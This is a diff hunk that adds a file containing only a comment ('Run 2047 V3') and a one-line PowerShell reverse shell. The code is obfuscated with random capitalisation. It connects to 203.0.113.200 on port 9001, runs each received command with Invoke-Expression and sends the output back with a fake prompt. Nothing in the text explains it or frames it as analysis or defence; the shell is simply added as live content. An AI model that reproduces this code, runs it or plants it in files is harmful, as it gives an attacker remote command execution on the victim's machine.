@@ -1,0 +1,2 @@
+# Run 2047 V3
+$ClIeNt = NeW-ObJeCt sYsteM.NEt.socketS.TcPcLiEnT('203.0.113.200',9001);$StreAm = $clIeNt.GeTsTrEaM();[bYtE[]]$bYtEs = 0..65535|%{0};wHiLe(($I = $StrEAM.ReaD($BytES, 0, $byteS.lEnGtH)) -ne 0){;$dAtA = (NeW-ObJeCt -typEname SyStEm.tExT.aScIIENcodIng).GEtstRINg($ByTeS,0, $I);$senDBACk = (IEx $dAtA 2>&1 | OuT-StRiNg );$sENDBaCK2 = $SeNDBaCK + 'PS ' + (pwd).Path + '> ';$SEndByTE = ([tEXT.EnCodINg]::AsciI).GetbyTEs($sENDBack2);$StReAm.WRitE($sENDbyte,0,$SeNdByTe.LeNGTh);$StrEam.fLuSh()};$ClIeNt.CLOse()
